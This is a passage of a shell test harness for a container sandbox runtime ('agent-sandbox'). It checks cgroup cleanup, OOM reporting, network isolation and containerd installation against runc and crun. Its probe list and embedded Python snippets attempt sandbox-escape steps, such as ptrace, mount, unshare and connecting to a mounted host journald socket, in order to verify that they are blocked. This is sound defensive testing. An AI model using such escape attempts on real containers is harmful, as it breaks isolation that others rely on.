                diagnose "$check.$rt.cleanup"
            else
                result "$check.cleanup" "$rt" PASS "no scope left under $slice"
            fi
            capture systemctl stop "$slice" || true
        fi
    fi

    # OOM: CRI reports the container's exit reason OOMKilled. agent-sandbox's shim reads the
    # cgroup's oom_kill counter before it publishes the exit, so it gets one attempt. runc's
    # shim in containerd 1.6 (the Debian 12 guest's) can lose TaskOOM for an init killed right after
    # start (containerd#8180, containerd#8893; containerd 2.2 orders OOM before exit, #12714):
    # the baselines (runc and crun behind it) get up to three attempts, each one logged.
    local attempts=1 n
    [[ $rt == agent-sandbox ]] || attempts=3
    for ((n = 1; n <= attempts; n++)); do
        if cri_oom_once "$check" "$rt"; then
            result "$check.oom" "$rt" PASS "ContainerStatus reason OOMKilled, exit $(jq -r .exit_code <<<"$got")$( ((n > 1)) && echo ", attempt $n of $attempts")"
            return 0
        fi
        echo "$check.oom $rt attempt $n: $(brief "$got")" >>"$log"
    done
    result "$check.oom" "$rt" FAIL "ContainerStatus: $(brief "$got")"
    diagnose "$check.$rt.oom"
}

# cri_oom_once CHECK RT: one pod whose 32 MiB container allocates 128 MiB; true when CRI
# reports reason OOMKilled. Leaves the last ContainerStatus (or error) in $got.
cri_oom_once() {
    local check=$1 rt=$2 pod cid slice status
    if ! capture_out cri_vm run --handler "$rt" --memory "$oom_mem" -- probe hog "$oom_alloc_mib"; then
        got="CRI pod: $(tail -n 20 "$log")"
        return 1
    fi
    pod=$(jq -r .pod <<<"$got")
    cid=$(jq -r .container <<<"$got")
    slice=$(jq -r .cgroup_parent <<<"$got")
    slice=${slice##*/}
    # cri_vm gives up after its own 120 s and says what it last saw: let it.
    capture_limit=150
    status=1
    if capture_out cri_vm wait "$cid" --timeout 120 && [[ $(jq -r .reason <<<"$got") == OOMKilled ]]; then
        status=0
    fi
    capture_limit=''
    local seen=$got
    if ! capture cri_vm remove "$pod"; then
        diagnose "$check.$rt.oom-remove"
    fi
    capture systemctl stop "$slice" || true
    got=$seen
    return "$status"
}

# --- the probe --------------------------------------------------------------------------

# What agent-sandbox must block and privileged runc allows (e2e/tests/suite/podman.rs),
# but net_ifaces: the guest has no network device, so runc's container sees only lo too.
probe_checks=(cap_eff cap_bnd no_new_privs seccomp_mode write_rootfs ptrace mount
    unshare unshare_user io_uring keyctl)

probe_scenario() {
    local rt=$1 check=probe want=blocked c outcome bad=()
    log=$out/logs/$check.$rt.log
    local args=(--runtime /usr/local/bin/agent-sandbox)
    if [[ $rt != agent-sandbox ]]; then
        args=(--runtime "$rt" --privileged)
        want=allowed
    fi
    if ! capture_out podman run --rm --network none "${args[@]}" "$image" probe all; then
        result "$check.properties" "$rt" FAIL "podman run probe: $(brief "$(tail -n 20 "$log")")"
        return
    fi
    local report=$got
    for c in "${probe_checks[@]}"; do
        outcome=$(jq -r --arg c "$c" 'select(.check == $c) | .outcome' <<<"$report" 2>/dev/null || true)
        [[ $outcome == "$want" ]] || bad+=("$c=${outcome:-missing}")
    done
    if [[ $rt == agent-sandbox ]]; then
        outcome=$(jq -r 'select(.check == "write_tmp") | .outcome' <<<"$report" 2>/dev/null || true)
        [[ $outcome == allowed ]] || bad+=("write_tmp=${outcome:-missing}")
    fi
    if ((${#bad[@]})); then
        result "$check.properties" "$rt" FAIL "want $want: ${bad[*]}"
    else
        result "$check.properties" "$rt" PASS "${#probe_checks[@]} properties $want"
    fi
}

# --- agent-sandbox install containerd ---------------------------------------------------

# `agent-sandbox install containerd --write` into a new file picks the config version this
# guest's containerd reads natively (3 for containerd 2.x, 2 for 1.6 and 1.7), says so, and
# containerd itself reads the entry back (`containerd config dump`).
install_scenario() {
    local check=install rt=agent-sandbox cfg=/tmp/vm-install-check.toml want=2 said
    log=$out/logs/$check.$rt.log
    rm -f "$cfg"
    capture containerd --version || true
    [[ $(awk '{print $3}' <<<"$got") =~ ^v?([0-9]+)\. ]] && ((BASH_REMATCH[1] >= 2)) && want=3
    if ! capture agent-sandbox install containerd --write --config "$cfg"; then
        result "$check.containerd" "$rt" FAIL "install containerd --write: $(brief "$got")"
        return 0
    fi
    said=$got
    cat "$cfg" >>"$log"
    if ! grep -qx "version = $want" "$cfg" || [[ $said != *"config version $want:"* ]]; then
        result "$check.containerd" "$rt" FAIL "want config version $want: file $(grep -m1 '^version' "$cfg"), said '$said'"
    elif ! capture containerd --config "$cfg" config dump; then
        result "$check.containerd" "$rt" FAIL "containerd config dump: $(brief "$got")"
    elif ! grep -q 'runtimes.agent-sandbox\]' <<<"$got" || ! grep -Eq "runtime_type = [\"']io.agent.sandbox[\"']" <<<"$got"; then
        result "$check.containerd" "$rt" FAIL "containerd config dump has no agent-sandbox runtime of type io.agent.sandbox"
    else
        result "$check.containerd" "$rt" PASS "config version $want, read back by containerd config dump: ${said%%;*}"
    fi
}

# --- Landlock's newer rights (ABI 9, 10) ------------------------------------------------

# landlock_scenario RT: two attacks from a ctr container of the tools image (python3), each
# of which works under runc and crun: connecting to a UNIX socket of the host that a mount
# brings in (journald's stdout stream socket: the sandbox would write into the host's
# journal), and sending a UDP datagram (to lo: the namespace has nothing else). agent-sandbox
# must refuse each (EACCES) where the kernel's Landlock has the right (`layers`:
# kernel_abi >= 9 and >= 10), so the check fails if the runtime ignores a newer ABI; below
# that, the right is a named gap of `layers` (covered by the mount and network namespaces)
# and the attempt goes through as for runc.
landlock_scenario() {
    local rt=$1 check=landlock runtime=io.containerd.runc.v2 id="vm-landlock-$1" kabi=0 want
    log=$out/logs/$check.$rt.log
    [[ $rt == agent-sandbox ]] && runtime=io.agent.sandbox
    local binary=()
    [[ $rt == crun ]] && binary=(--runc-binary /usr/bin/crun)
    if ! ctr image ls -q | grep -qx "$tools_image"; then
        capture ctr images import --all-platforms "$in/extra/tools.tar" || true
    fi
    capture ctr task delete -f "$id" || true
    capture ctr container delete "$id" || true
    if ! capture ctr run -d --runtime "$runtime" "${binary[@]}" \
        --mount type=bind,src=/run/systemd/journal,dst=/mnt/journal,options=rbind:ro \
        "$tools_image" "$id" sh -c 'exec sleep 600'; then
        not_run "$check" "$rt" "ctr run: $(brief "$got")" resolve_unix udp_send
        return 0
    fi
    if [[ $rt == agent-sandbox ]] &&
        capture_out agent-sandbox --root /run/containerd/agent-sandbox/default layers "$id"; then
        kabi=$(jq -r '.landlock.kernel_abi // 0' <<<"$got" 2>/dev/null || echo 0)
    fi
    local unix='import socket
s = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
try:
    s.connect("/mnt/journal/stdout"); print("connected")
except OSError as e:
    print("refused", e.errno, e.strerror)'
    local udp='import socket
s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
try:
    s.sendto(b"x", ("127.0.0.1", 9)); print("sent")
except OSError as e:
    print("refused", e.errno, e.strerror)'
    local what code since outcome
    for what in resolve_unix udp_send; do
        case $what in
        resolve_unix) code=$unix since=9 ;;
        udp_send) code=$udp since=10 ;;
        esac
        capture ctr task exec --exec-id "ll-$what" "$id" python3 -c "$code" || true
        outcome=$(tail -n1 <<<"$got")
        want='connected|sent'
        [[ $rt == agent-sandbox ]] && ((kabi >= since)) && want='refused 13 '
        if [[ $outcome =~ ^($want) ]]; then
            result "$check.$what" "$rt" PASS "$outcome (kernel Landlock ABI ${kabi/#0/not asked}, right since $since)"
        else
            result "$check.$what" "$rt" FAIL "'$(brief "$got")', want ${want//|/ or } (kernel Landlock ABI $kabi, right since $since)"
        fi
    done
    capture ctr task kill -s KILL "$id" || true
    sleep 1
    capture ctr task delete -f "$id" || true
    capture ctr container delete "$id" || true
}

# --- podman 5 networks (docs/egress.md#podman-networks) ---------------------------------

# podman_net_scenario RT: rootful `podman run --network none|bridge` and rootless `podman run
# --network pasta` (rootless podman 5's default; rootful podman refuses pasta: "pasta
# networking is only supported for rootless mode"), with the interfaces the container sees.
# runc and crun get what podman set up (bridge: eth0 on netavark's podman network; pasta: a
# copy of the host's interface); agent-sandbox runs every one in a network namespace of its own with only `lo`
# (network=none plus the egress proxy whatever the engine asked, docs/egress.md).
# The runtime is named as containers.conf's [engine.runtimes] entry for agent-sandbox
# (`--runtime agent-sandbox`), the other scenarios give podman its path.
podman_net_scenario() {
    local rt=$1 check=podman-net mode ifs p want
    local list='awk -F: "NR > 2 {gsub(/ /, \"\", \$1); print \$1}" /proc/net/dev | sort | tr "\n" " "'
    log=$out/logs/$check.$rt.log
    # pasta copies the host's interface and route: the guest has no network, so a dummy
    # interface with a default route stands in for the host's uplink (once).
    if ! ip link show vmuplink >/dev/null 2>&1; then
        capture ip link add vmuplink type dummy || true
        capture ip addr add 10.99.0.2/24 dev vmuplink || true
        capture ip link set vmuplink up || true
        capture ip route add default via 10.99.0.1 dev vmuplink || true
    fi
    for mode in none bridge pasta; do
        if [[ $mode == pasta ]]; then
            podman_prefix "$user"
        else
            podman_prefix root
        fi
        capture "${p[@]}" --runtime "$rt" run --rm --network "$mode" "$image" sh -c "$list" || true
        ifs=$(tail -n1 <<<"$got")
        ifs=${ifs% }
        case $rt:$mode in
        agent-sandbox:*) want='lo' ;;
        *:none) want='lo' ;;
        *) want='+([a-z0-9]) lo|lo +([a-z0-9])' ;;
        esac
        # shellcheck disable=SC2053
        if [[ $ifs == @($want) && $got != *Error:* ]]; then
            result "$check.$mode" "$rt" PASS "interfaces: $ifs"
        else
            result "$check.$mode" "$rt" FAIL "interfaces '$ifs', want $want: $(brief "$got")"
        fi
    done
    if [[ $rt == agent-sandbox ]]; then
        # The containers.conf entry: podman resolves the name to /usr/local/bin/agent-sandbox.
        capture podman --runtime agent-sandbox run -d --name vm-net-entry --network none "$image" sleep 600 || true
        capture podman inspect -f '{{.OCIRuntime}}' vm-net-entry || true
        local named=$(tail -n1 <<<"$got")
        capture podman exec vm-net-entry cat /proc/self/attr/current || true
        local label=${got%%$'\n'*}
        if [[ $named == agent-sandbox && $label =~ ^agent-sandbox-[0-9a-f]{16}\ \(enforce\) ]]; then
            result "$check.runtime-entry" "$rt" PASS "OCIRuntime $named, label '$label'"
        else
            result "$check.runtime-entry" "$rt" FAIL "OCIRuntime '$named', label '$label'"
        fi
        capture podman rm -f -t 0 vm-net-entry || true
    fi
}

# --- set-up -----------------------------------------------------------------------------

setup() {
    log=$out/logs/setup.log
    local f
    install -m 0755 "$in"/bin/* /usr/local/bin/
    install -d /etc/agent-sandbox
    cp -r "$in/profiles" /etc/agent-sandbox/
    # The checkpoint checks' policy ($ckpt_policy).
    sed 's/^landlock = "required"$/landlock = "optional"/; s/^\[resources\]$/[resources]\ninit = "never"/' \
        "$in/profiles/agent.toml" >"$ckpt_policy"
    grep -qx 'landlock = "optional"' "$ckpt_policy" && grep -qx 'init = "never"' "$ckpt_policy" ||
        { echo "checks.sh: $ckpt_policy: profiles/agent.toml no longer has landlock = \"required\" and [resources]" >&2; return 1; }

    {
        uname -a
        echo "cmdline: $(cat /proc/cmdline)"
        echo "cgroup: $(stat -fc %T /sys/fs/cgroup) controllers: $(cat /sys/fs/cgroup/cgroup.controllers)"
        echo "apparmor enabled: $(cat /sys/module/apparmor/parameters/enabled 2>&1)"
        echo "lsm: $(cat /sys/kernel/security/lsm 2>&1)"
        echo "debian: $(cat /etc/debian_version)"
        echo "root's rlimits (soft:hard): nofile $(ulimit -Sn):$(ulimit -Hn) nproc $(ulimit -Su):$(ulimit -Hu); fs.nr_open $(cat /proc/sys/fs/nr_open)"
        dpkg-query -W podman containerd runc crun conmon systemd apparmor linux-image-cloud-amd64 netavark passt nftables criu git 2>&1
        # How long the boot took (systemd-analyze time waits for this unit, part of the
        # boot), and AppArmor's share (it compiles every profile unless its cache,
        # /var/cache/apparmor, holds them for this kernel's features).
        echo "up $(cut -d' ' -f1 /proc/uptime) s when the checks began"
        echo "apparmor.service: $(systemd-analyze blame 2>/dev/null | awk '$NF == "apparmor.service"' | sed 's/^ *//')"
        echo "apparmor cache: $(find /var/cache/apparmor -mindepth 1 -maxdepth 1 2>/dev/null | tr '\n' ' ')"
        for f in agent-sandbox containerd-shim-agent-sandbox; do
            echo "$f: $(sha256sum "/usr/local/bin/$f" | cut -c1-16) $("/usr/local/bin/$f" --version 2>&1 | head -n1)"
        done
    } >"$out/facts.txt" 2>&1
    # The kernel's AppArmor features as the parser flattened them into its cache (the input
    # of hack/vm/image.sh's precompiled cache, hack/vm/guest/apparmor-features.SUITE).
    find /var/cache/apparmor -mindepth 2 -maxdepth 2 -name .features -exec cp {} "$out/apparmor.features" \; 2>/dev/null || true

    # podman: the project's runtime next to Debian's, every other setting the distribution's
    # (cgroup_manager systemd, journald events).
    install -d /etc/containers
    cat >/etc/containers/containers.conf <<'CONF'
# Written by hack/vm/checks.sh: Debian's defaults plus the runtime under test.
[engine]
runtime_supports_json = ["crun", "runc", "kata", "runsc", "krun", "agent-sandbox"]

[engine.runtimes]
agent-sandbox = ["/usr/local/bin/agent-sandbox"]
CONF
    capture podman load -q -i "$in/images/busybox.tar" || { echo "checks.sh: podman load: $got" >&2; return 1; }

    # The rootless user: a lingering logind user, so user@UID.service (with cpu, memory and
    # pids delegated) runs without a login.
    capture loginctl enable-linger "$user" || { echo "checks.sh: loginctl enable-linger: $got" >&2; return 1; }
    # Its D-Bus socket (dbus-user-session) comes up with the user manager's sockets.target.
    for _ in $(seq 150); do [[ -S /run/user/$user_uid/bus ]] && break; sleep 0.2; done
    [[ -S /run/user/$user_uid/bus ]] || { echo "checks.sh: user@$user_uid.service has no D-Bus socket after 30 s" >&2; return 1; }
    install -m 0644 "$in/images/busybox.tar" "/home/$user/busybox.tar"
    local p
    podman_prefix "$user"
    capture "${p[@]}" load -q -i "/home/$user/busybox.tar" || { echo "checks.sh: rootless podman load: $got" >&2; return 1; }
    # shellcheck disable=SC2016
    capture su -l -s /bin/sh -c 'cat /proc/self/cgroup; echo "XDG_RUNTIME_DIR=$XDG_RUNTIME_DIR DBUS_SESSION_BUS_ADDRESS=$DBUS_SESSION_BUS_ADDRESS"' "$user" || true
    echo "the rootless user's login (su -l): $got" >>"$out/facts.txt"
    echo "user@$user_uid delegates: $(cat "/sys/fs/cgroup/user.slice/user-$user_uid.slice/user@$user_uid.service/cgroup.controllers" 2>&1)" >>"$out/facts.txt"

    # containerd: the CRI with a runc handler on the systemd cgroup driver (what kubeadm sets
    # up) and the agent-sandbox shim; the pod network of hack/cri.sh (both veth ends in the pod).
    install -d /opt/cni/bin /etc/agent-sandbox/cni /etc/containerd
    install -m 0755 "$in/cni/agent-sandbox-veth" /opt/cni/bin/agent-sandbox-veth
    ln -sfn /usr/lib/cni/loopback /opt/cni/bin/loopback
    cat >/etc/agent-sandbox/cni/10-agent-sandbox.conflist <<'CONF'
{
  "cniVersion": "1.0.0",
  "name": "agent-sandbox-pod",
  "plugins": [
    { "type": "agent-sandbox-veth" }
  ]
}
CONF
    # Debug level: containerd's journal then has the shims' debug logs too (diagnose).
    cat >/etc/containerd/config.toml <<'CONF'
version = 2

[debug]
  level = "debug"

[plugins]
  [plugins."io.containerd.grpc.v1.cri"]
    sandbox_image = "localhost/agent-sandbox/pause:latest"
    [plugins."io.containerd.grpc.v1.cri".cni]
      bin_dir = "/opt/cni/bin"
      conf_dir = "/etc/agent-sandbox/cni"
    [plugins."io.containerd.grpc.v1.cri".containerd]
      default_runtime_name = "runc"
      [plugins."io.containerd.grpc.v1.cri".containerd.runtimes.runc]
        runtime_type = "io.containerd.runc.v2"
        [plugins."io.containerd.grpc.v1.cri".containerd.runtimes.runc.options]
          SystemdCgroup = true
      [plugins."io.containerd.grpc.v1.cri".containerd.runtimes.crun]
        runtime_type = "io.containerd.runc.v2"
        [plugins."io.containerd.grpc.v1.cri".containerd.runtimes.crun.options]
          BinaryName = "/usr/bin/crun"
          SystemdCgroup = true
      [plugins."io.containerd.grpc.v1.cri".containerd.runtimes.agent-sandbox]
        runtime_type = "io.agent.sandbox"
        pod_annotations = ["io.agent.sandbox.*"]
      [plugins."io.containerd.grpc.v1.cri".containerd.runtimes.agent-sandbox-ckpt]
        runtime_type = "io.agent.sandbox"
        [plugins."io.containerd.grpc.v1.cri".containerd.runtimes.agent-sandbox-ckpt.options]
          ConfigPath = "/etc/agent-sandbox/vm-ckpt-runtime.toml"
CONF
    # The checkpoint checks' CRI handler: the shim with their policy (docs/kubernetes.md).
    printf 'Policy = "%s"\n' "$ckpt_policy" >/etc/agent-sandbox/vm-ckpt-runtime.toml
    capture systemctl restart containerd || { echo "checks.sh: containerd restart: $got" >&2; return 1; }
    for _ in $(seq 150); do ctr version >/dev/null 2>&1 && break; sleep 0.2; done
    local ns archive
    for archive in "$in"/images/*.tar; do
        for ns in default k8s.io; do
            capture ctr -n "$ns" images import --all-platforms "$archive" ||
                { echo "checks.sh: ctr import $archive: $got" >&2; return 1; }
        done
    done
}

say "set-up"
if ! setup; then
    say "set-up failed; see logs/setup.log"
    tail -n 30 "$out/logs/setup.log" >&2
    exit 1
fi
cat "$out/facts.txt"

for rt in $VM_RUNTIMES; do
    if selected podman-systemd; then
        say "podman-systemd [$rt]"
        podman_scenario podman-systemd "$rt" root "" '/machine.slice/libpod-ID.scope*' 'containers-default-*'
    fi
    if selected podman-cgroupfs; then
        say "podman-cgroupfs [$rt]"
        podman_scenario podman-cgroupfs "$rt" root "--cgroup-manager cgroupfs" '/libpod_parent/libpod-ID*' 'containers-default-*'
    fi
    if selected podman-rootless; then
        say "podman-rootless [$rt]"
        podman_scenario podman-rootless "$rt" "$user" "" \
            "/user.slice/user-$user_uid.slice/user@$user_uid.service/user.slice/libpod-ID.scope*" "$unconfined" '*'
    fi
    if selected rootless-workspace; then
        say "rootless-workspace [$rt]"
        workspace_scenario "$rt"
    fi
    if selected rootful-workspace; then
        say "rootful-workspace [$rt]"
        rootful_workspace_scenario "$rt"
    fi
    if selected ctr; then
        say "ctr [$rt]"
        ctr_scenario "$rt"
    fi
    if selected cri; then
        say "cri [$rt]"
        cri_scenario "$rt"
    fi
    if selected probe; then
        say "probe [$rt]"
        probe_scenario "$rt"
    fi
    if selected landlock; then
        say "landlock [$rt]"
        landlock_scenario "$rt"
    fi
    # The agent task as the desktop user, runc its reference (crun adds nothing here).
    if selected rootless-task && [[ $rt != crun ]]; then
        say "rootless-task [$rt]"
        task_scenario "$rt"
    fi
    # CRIU 4 is in the trixie and sid guests only (hack/vm/image.sh); runc is the reference.
    if [[ $(cut -d. -f1 /etc/debian_version) != 12 ]]; then
        if selected checkpoint && [[ $rt == runc ]]; then
            say "checkpoint [$rt]"
            checkpoint_scenario "$rt"
        fi
        if selected checkpoint-sandbox && [[ $rt == agent-sandbox ]]; then
            say "checkpoint-sandbox [$rt]"
            checkpoint_scenario "$rt"
        fi
        # CRI CheckpointContainer: containerd 2.x (sid).
        if selected cri-checkpoint && [[ $rt != crun ]] && [[ $(containerd --version 2>/dev/null | awk '{print $3}') =~ ^v?([0-9]+)\. ]] &&
            ((BASH_REMATCH[1] >= 2)); then
            say "cri-checkpoint [$rt]"
            cri_checkpoint_scenario "$rt"
        fi
    fi
    # podman 5's network stack (netavark, pasta); bookworm's podman 4.3 has CNI and slirp4netns.
    if selected podman-net && [[ $(podman info --format '{{.Host.NetworkBackend}}' 2>/dev/null) == netavark ]]; then
        say "podman-net [$rt]"
        podman_net_scenario "$rt"
    fi
done
if [[ " $VM_RUNTIMES " == *" agent-sandbox "* ]] && selected install; then
    say "install [agent-sandbox]"
    install_scenario
fi
# Every agent-sandbox sandbox is gone: no profile of ours may stay loaded.
if [[ " $VM_RUNTIMES " == *" agent-sandbox "* ]]; then
    left=$(grep '^agent-sandbox-' /sys/kernel/security/apparmor/profiles || true)
    if [[ -z $left ]]; then
        result apparmor.unloaded agent-sandbox PASS "no agent-sandbox profile loaded after the last sandbox"
    else
        result apparmor.unloaded agent-sandbox FAIL "still loaded: $left"
    fi
fi
say "done: $(grep -c $'\tPASS\t' "$out/results.tsv" || true) passed, $(grep -c $'\tFAIL\t' "$out/results.tsv" || true) failed"
